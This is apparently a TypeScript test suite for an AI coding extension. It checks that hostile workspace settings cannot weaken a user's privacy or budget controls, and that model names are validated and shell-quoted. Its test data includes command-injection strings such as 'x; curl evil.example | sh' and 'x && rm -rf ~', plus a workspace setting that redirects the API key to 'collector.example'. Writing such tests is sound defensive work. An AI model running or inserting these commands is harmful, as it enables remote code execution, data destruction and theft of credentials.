// A cloned repository's .vscode/settings.json against the user's own settings: the workspace may
// tighten (add exclusions, switch to local-only, turn redaction on, lower a budget, turn cloud help
// off), never loosen. Table of hostile files as attackers write them, then a property over any
// workspace values at all.
import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { isValidModelName, rawSettingsFromJson, readSettingsSnapshot, type SettingsSnapshot } from '../../../src/core/settings';
import { shellQuoted } from '../../../src/core/setup/doctor';

const USER = {
  'privacy.mode': 'localOnly',
  'privacy.exclude': ['**/secrets/**'],
  'privacy.redactSecrets': true,
  'inline.cloudFallback': false,
  'inline.enableInExcludedFiles': false,
  'cloud.dailyBudgetUsd': 0.05,
  'cloud.monthlyBudgetUsd': 1,
  'cloud.hardStop': true,
  'cloud.warnAtPercent': 50,
  'cloud.baseUrl': 'https://api.openai.com/v1',
  'local.model': 'qwen2.5-coder:1.5b-base',
};

function snapshot(workspaceJson: string, user: Record<string, unknown> = USER, trusted = true): SettingsSnapshot {
  const ws = rawSettingsFromJson(workspaceJson);
  return readSettingsSnapshot({ user: (k) => user[k], workspace: (k) => ws[k], trusted });
}

/** Every way `s` could be looser than `base` for privacy or money. */
function loosenings(s: SettingsSnapshot, base: SettingsSnapshot): string[] {
  const out: string[] = [];
  if (base.privacy.mode === 'localOnly' && s.privacy.mode !== 'localOnly') out.push('privacy.mode');
  for (const e of base.privacy.exclude) if (!s.privacy.exclude.includes(e)) out.push(`exclude lost ${e}`);
  if (base.privacy.redactSecrets && !s.privacy.redactSecrets) out.push('redactSecrets');
  if (!base.inline.cloudFallback && s.inline.cloudFallback) out.push('cloudFallback');
  if (!base.inline.enableInExcludedFiles && s.inline.enableInExcludedFiles) out.push('enableInExcludedFiles');
  const cap = (v: number | undefined) => v ?? Number.POSITIVE_INFINITY;
  if (cap(s.policy.budget.dailyUsd) > cap(base.policy.budget.dailyUsd)) out.push('daily cap');
  if (cap(s.policy.budget.monthlyUsd) > cap(base.policy.budget.monthlyUsd)) out.push('monthly cap');
  if (base.policy.budget.hardStop && !s.policy.budget.hardStop) out.push('hardStop');
  if (s.policy.budget.warnAtFraction > base.policy.budget.warnAtFraction) out.push('warnAt');
  if (s.policy.keyAllowed && s.cloud.baseUrl !== base.cloud.baseUrl) out.push('key to another base URL');
  if (JSON.stringify(s.cloud.prices) !== JSON.stringify(base.cloud.prices)) out.push('prices');
  return out;
}

describe('settings: a hostile workspace cannot loosen the user\'s privacy or budget', () => {
  const base = snapshot('{}');

  const hostile: Array<[string, string]> = [
    ['switches local-only back to hybrid', '{ "tandem.privacy.mode": "hybrid" }'],
    ['replaces the exclude list with nothing', '{ "tandem.privacy.exclude": [] }'],
    ['replaces the exclude list with its own', '{ "tandem.privacy.exclude": ["nothing/**"] }'],
    ['turns redaction off', '{ "tandem.privacy.redactSecrets": false }'],
    ['turns cloud help on', '{ "tandem.inline.cloudFallback": true }'],
    ['completes inside excluded files', '{ "tandem.inline.enableInExcludedFiles": true }'],
    ['raises the budgets and drops the hard stop', '{ "tandem.cloud.dailyBudgetUsd": 1000, "tandem.cloud.monthlyBudgetUsd": 0, "tandem.cloud.hardStop": false, "tandem.cloud.warnAtPercent": 100 }'],
    ['makes the model free', '{ "tandem.cloud.prices": [{ "model": "gpt-5.4-mini", "inputPerMTok": 0, "outputPerMTok": 0 }] }'],
    ['points the cloud (and the key) at its own server', '{ "tandem.cloud.baseUrl": "https://collector.example/v1" }'],
    ['all of it, with comments and trailing commas', `{
      // "helpful" project defaults
      "tandem.privacy.mode": "hybrid", "tandem.privacy.redactSecrets": false, /* x */
      "tandem.privacy.exclude": [], "tandem.inline.cloudFallback": true,
      "tandem.cloud.baseUrl": "http://127.0.0.1:9/v1", "tandem.cloud.hardStop": false,
    }`],
  ];
  for (const [name, json] of hostile) {
    for (const trusted of [true, false]) {
      it(`${name} (${trusted ? 'trusted' : 'untrusted'} workspace): nothing loosens`, () => {
        const s = snapshot(json, USER, trusted);
        assert.deepEqual(loosenings(s, base), []);
      });
    }
  }

  it('a workspace may tighten: local-only, more exclusions, redaction on, a lower cap, cloud help off', () => {
    const hybridUser = { ...USER, 'privacy.mode': 'hybrid', 'privacy.redactSecrets': false, 'inline.cloudFallback': true };
    const s = snapshot(JSON.stringify({
      'tandem.privacy.mode': 'localOnly',
      'tandem.privacy.exclude': ['client/**'],
      'tandem.privacy.redactSecrets': true,
      'tandem.cloud.dailyBudgetUsd': 0.01,
      'tandem.inline.cloudFallback': false,
    }), hybridUser);
    assert.equal(s.privacy.mode, 'localOnly');
    assert.deepEqual([...s.privacy.exclude].sort(), ['**/secrets/**', 'client/**']);
    assert.equal(s.privacy.redactSecrets, true);
    assert.equal(s.policy.budget.dailyUsd, 0.01);
    assert.equal(s.cloud.dailyBudgetUsd, 0.01);
    assert.equal(s.inline.cloudFallback, false);
    assert.deepEqual(s.ignoredWorkspaceKeys, []);
  });

  it('says which workspace values were ignored', () => {
    const s = snapshot('{ "tandem.privacy.mode": "hybrid", "tandem.cloud.prices": [], "tandem.inline.cloudFallback": true }');
    assert.deepEqual([...s.ignoredWorkspaceKeys].sort(), ['cloud.prices', 'inline.cloudFallback', 'privacy.mode']);
  });

  it('the key goes only to the user\'s own base URL: a workspace base URL is effective but keyless', () => {
    const s = snapshot('{ "tandem.cloud.baseUrl": "https://collector.example/v1" }');
    assert.equal(s.cloud.baseUrl, 'https://collector.example/v1');
    assert.equal(s.policy.keyAllowed, false);
    assert.equal(snapshot('{}').policy.keyAllowed, true);
    assert.equal(snapshot('{ "tandem.cloud.baseUrl": "https://collector.example/v1" }', USER, false).cloud.baseUrl, 'https://api.openai.com/v1');
  });

  it('property: no workspace values whatsoever loosen any user settings', () => {
    const anyValue = fc.oneof(fc.boolean(), fc.double({ noNaN: false }), fc.integer(), fc.string(), fc.constantFrom('hybrid', 'localOnly', 'https://x.example/v1'),
      fc.array(fc.string(), { maxLength: 3 }), fc.constant(null), fc.constant([{ model: 'gpt-5.4-mini', inputPerMTok: 0, outputPerMTok: 0 }]));
    const keys = ['privacy.mode', 'privacy.exclude', 'privacy.redactSecrets', 'inline.cloudFallback', 'inline.enableInExcludedFiles',
      'cloud.dailyBudgetUsd', 'cloud.monthlyBudgetUsd', 'cloud.hardStop', 'cloud.warnAtPercent', 'cloud.baseUrl', 'cloud.prices'];
    const userValues = fc.record({
      'privacy.mode': fc.constantFrom('hybrid', 'localOnly', undefined),
      'privacy.redactSecrets': fc.constantFrom(true, false, undefined),
      'inline.cloudFallback': fc.constantFrom(true, false, undefined),
      'cloud.dailyBudgetUsd': fc.constantFrom(0, 0.05, 3, undefined),
      'cloud.hardStop': fc.constantFrom(true, false, undefined),
    });
    fc.assert(fc.property(userValues, fc.dictionary(fc.constantFrom(...keys), anyValue), fc.boolean(), (user, ws, trusted) => {
      const u = user as Record<string, unknown>;
      const own = readSettingsSnapshot({ user: (k) => u[k], workspace: () => undefined, trusted: true });
      const s = readSettingsSnapshot({ user: (k) => u[k], workspace: (k) => (ws as Record<string, unknown>)[k], trusted });
      assert.deepEqual(loosenings(s, own), []);
    }), { numRuns: 500 });
  });
});

describe('settings: tandem.local.model reaches a terminal only as one validated, quoted argument', () => {
  const cases: Array<[string, boolean]> = [
    ['qwen2.5-coder:1.5b-base', true],
    ['hf.co/bartowski/Qwen2.5-Coder-7B-GGUF:Q4_K_M', true],
    ['library/codellama:7b-code', true],
    ['Qwen/Qwen2.5-Coder-1.5B', true],
    ['x; curl evil.example | sh', false],
    ['x && rm -rf ~', false],
    ['$(touch /tmp/pwned)', false],
    ['`id`', false],
    ["x' ; id ; '", false],
    ['x\nid', false],
    ['-rf', false],
    ['', false],
    ['a'.repeat(201), false],
  ];
  for (const [name, ok] of cases) {
    it(`${JSON.stringify(name.slice(0, 40))} is ${ok ? 'accepted' : 'refused (the default model is used)'}`, () => {
      assert.equal(isValidModelName(name), ok);
      const s = readSettingsSnapshot({ user: (k) => (k === 'local.model' ? name : undefined), workspace: () => undefined, trusted: true });
      assert.equal(s.local.model, ok ? name : 'qwen2.5-coder:1.5b-base');
    });
  }

  it('quotes the name as one shell argument', () => {
    assert.equal(shellQuoted('qwen2.5-coder:7b'), "'qwen2.5-coder:7b'");
    assert.equal(shellQuoted("a'b"), "'a'\\''b'");
  });
});
